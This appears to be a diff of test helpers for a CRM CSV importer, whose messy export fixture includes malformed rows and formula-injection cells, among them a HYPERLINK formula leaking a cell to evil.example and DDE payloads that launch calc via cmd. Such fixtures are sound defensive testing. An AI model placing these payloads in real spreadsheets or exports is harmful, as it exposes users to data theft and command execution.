@@ -42,9 +42,7 @@ def csv_text(lines: Iterable[str], *, newline: str = "\r\n") -> str:
     return newline.join(lines) + newline
 
 
-def table(
-    header: Sequence[str], rows: Iterable[Sequence[str]], *, delimiter: str = ","
-) -> str:
+def table(header: Sequence[str], rows: Iterable[Sequence[str]], *, delimiter: str = ",") -> str:
     lines = [record(*header, delimiter=delimiter)]
     lines += [record(*row, delimiter=delimiter) for row in rows]
     return csv_text(lines)
@@ -68,9 +66,7 @@ def run_import(
     dry_run: bool = False,
     overrides: dict[str, str] | None = None,
 ) -> tuple[ImportJob, ImportReport]:
-    job = open_import(
-        session, workspace=workspace, path=path, dry_run=dry_run, overrides=overrides
-    )
+    job = open_import(session, workspace=workspace, path=path, dry_run=dry_run, overrides=overrides)
     session.commit()
     report = ImportRun(job.id, chunk_rows=chunk_rows).run()
     session.expire_all()
@@ -103,14 +99,16 @@ def lead_by_email(session: Session, workspace_id: int, email_key: str) -> Lead:
     return found[0]
 
 
+PERSON = (
+    Lead.first_name, Lead.last_name, Lead.email, Lead.email_key, Lead.phone, Lead.whatsapp_id,
+    Lead.title, Lead.city,
+)  # fmt: skip
+
+
 def people(session: Session, workspace_id: int) -> list[tuple[Any, ...]]:
     """Every lead of a workspace as the values a person is, independent of ids and order."""
     statement = (
-        select(
-            Lead.first_name, Lead.last_name, Lead.email, Lead.email_key, Lead.phone,
-            Lead.whatsapp_id, Lead.title, Lead.city, Company.name, Company.domain,
-            Lead.custom_fields,
-        )  # fmt: skip
+        select(*PERSON, Company.name, Company.domain, Lead.custom_fields)
         .outerjoin(Company, Company.id == Lead.company_id)
         .where(Lead.workspace_id == workspace_id)
     )
@@ -122,8 +120,8 @@ def table_counts(session: Session, workspace_id: int) -> dict[str, int]:
     """How many rows the workspace has in every table an import writes to."""
     found = {}
     for model in (Lead, Company, MergeRecord, Activity):
-        statement = select(func.count()).select_from(model).where(
-            model.workspace_id == workspace_id
+        statement = (
+            select(func.count()).select_from(model).where(model.workspace_id == workspace_id)
         )
         found[model.__name__] = session.scalar(statement) or 0
     return found
@@ -132,6 +130,14 @@ def table_counts(session: Session, workspace_id: int) -> dict[str, int]:
 def merges(session: Session, lead_id: int) -> list[MergeRecord]:
     statement = select(MergeRecord).where(MergeRecord.lead_id == lead_id).order_by(MergeRecord.id)
     return list(session.scalars(statement))
+
+
+JOSE = "jose.munoz@acme-widgets.com"
+ACME = ("Acme Widgets", "https://www.acme-widgets.com/")
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"click")'
+CALC = "+cmd|' /C calc'!A0"
+SUM_CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
+CALL_BACK = "call back;\r\nafter Q3\nask for Ünal"
 
 
 def messy_crm_export(encoding: str = "cp1252") -> bytes:
@@ -143,37 +149,27 @@ def messy_crm_export(encoding: str = "cp1252") -> bytes:
     def row(*cells: str) -> str:
         return record(*cells, delimiter=";")
 
-    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1;"click")'
+    blank = ("",) * 3
     lines = [
         row(*CRM_HEADER),  # line 1
-        row(  # lines 2-3: created
-            "José", "Muñoz", "jose.munoz@acme-widgets.com", "(415) 555-2671", "Acme Widgets",
-            "https://www.acme-widgets.com/", "", "Met at the expo; budget\n5000 €",
-        ),  # fmt: skip
+        # lines 2-3: created; a line break inside the quoted notes
+        row("José", "Muñoz", JOSE, "(415) 555-2671", *ACME, "", "Met at the expo; budget\n5000 €"),
         "",  # line 4: blank
-        row(  # line 5: merged into José (email, another case), fills in his title
-            "JOSE", "MUÑOZ", "JOSE.MUNOZ@Acme-Widgets.com", "+1 415 555 2671", "Acme Widgets",
-            "", "Head of Sales", "",
-        ),  # fmt: skip
-        row(  # lines 6-8: merged into José again; Windows and Unix breaks inside the notes
-            "José", "Muñoz", "Jose.Munoz@ACME-WIDGETS.COM", "415.555.2671", "", "", "",
-            "call back;\r\nafter Q3\nask for Ünal",
-        ),  # fmt: skip
-        row("Björn", "Müller", "bjorn@@example.com", "", "", "", "", "über"),  # 9: email
-        row("Zoë", "Ñúñez", "zoe@example.com", "12", "", "", "", ""),  # 10: phone
-        row("", "", "", "", "", "", "", ""),  # line 11: only delimiters, not a record
+        # line 5: merged into José (his email in other case), fills in his title
+        row("JOSE", "MUÑOZ", JOSE.upper(), "+1 415 555 2671", ACME[0], "", "Head of Sales", ""),
+        # lines 6-8: merged into José again; a Windows and a Unix line break in the notes
+        row("José", "Muñoz", "Jose.Munoz@ACME-WIDGETS.COM", "415.555.2671", *blank, CALL_BACK),
+        row("Björn", "Müller", "bjorn@@example.com", "", "", "", "", "über"),  # 9: bad email
+        row("Zoë", "Ñúñez", "zoe@example.com", "12", "", "", "", ""),  # 10: bad phone
+        row(*[""] * 8),  # line 11: only delimiters, not a record
         row("Ana", "Sin Contacto", "", "", "", "", "Consultant", "no email; no phone"),  # 12
-        row(  # line 13: created, formulas kept as text
-            hyperlink, "+cmd|' /C calc'!A0", "eve@formula.example", "", "", "", "-2+3",
-            "@SUM(1+1)*cmd|' /C calc'!A0",
-        ),  # fmt: skip
-        row("-2+3", "@SUM(A1:A9)", "mallory@formula.example", "", "", "", "", "=1+2"),  # 14
-        row(  # lines 15-16: rejected, two cells past the header
-            "Ragged", "Row", "ragged@example.com", "", "", "", "", "two\nlines", "extra", "more",
-        ),  # fmt: skip
-        row("Günther", "Überbacher", "gunther@example.de", "", "", "", "", "", "", ""),  # 17
-        row("Renée", "Dupont", "renee@example.fr"),  # line 18: short row, created
-        row("Jane", "Doe", "jane.doe(at)example.com", "+1 415 555 0134", "", "", "", ""),  # 19
+        row(HYPERLINK, CALC, "eve@formula.example", *blank, "-2+3", SUM_CALC),  # 13: created
+        row("-2+3", "@SUM(A1:A9)", "mallory@formula.example", *blank, "", "=1+2"),  # 14: created
+        # lines 15-16: rejected, two non-empty cells past the header
+        row("Ragged", "Row", "ragged@example.com", *blank, "", "two\nlines", "extra", "more"),
+        row("Günther", "Überbacher", "gunther@example.de", *blank, "", "", "", ""),  # 17: created
+        row("Renée", "Dupont", "renee@example.fr"),  # line 18: a short row, created
+        row("Jane", "Doe", "jane.doe(at)example.com", "+1 415 555 0134", *blank, ""),  # 19
         "",  # line 20: blank
     ]
     return csv_text(lines).encode(encoding)
